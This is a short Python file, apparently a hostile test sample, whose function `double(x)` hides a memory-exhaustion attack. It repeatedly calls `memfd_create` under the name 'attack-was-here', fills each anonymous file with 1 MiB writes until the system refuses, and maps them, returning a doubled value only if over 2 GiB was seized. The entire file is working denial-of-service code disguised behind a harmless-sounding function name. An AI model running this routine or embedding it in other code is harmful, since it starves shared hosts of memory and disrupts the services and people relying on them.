"""Fill the memory with temporary files, past Python's names for them: as many, as large, and mapped as well."""

import ctypes
import mmap
import os

SECONDS = 20.0

LIBC = ctypes.CDLL(None, use_errno=True)


def double(x):
    held, kept = 0, []
    for number in range(4096):
        descriptor = LIBC.memfd_create(b"attack-was-here", 1)
        if descriptor < 0:
            break
        try:
            while True:
                held += os.write(descriptor, bytes(1 << 20))
        except OSError:
            pass
        try:
            kept.append(mmap.mmap(descriptor, 4 << 20))
        except (OSError, ValueError):
            continue
        os.close(descriptor)
    return 2.0 * x if held > 2 << 30 else 0.5
